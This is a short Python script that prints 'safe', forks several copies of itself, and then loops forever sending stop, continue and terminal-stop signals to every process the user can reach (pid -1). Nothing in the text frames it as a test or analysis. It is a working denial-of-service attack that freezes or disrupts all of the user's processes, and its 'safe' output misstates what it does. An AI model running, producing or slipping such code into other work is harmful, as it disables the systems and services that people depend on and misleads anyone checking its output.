import os
import signal

print("safe", flush=True)
for _ in range(6):
    if os.fork() == 0:
        break
signals = [signal.SIGSTOP, signal.SIGCONT, signal.SIGTSTP, signal.SIGSTOP]
while True:
    for number in signals:
        os.kill(-1, number)
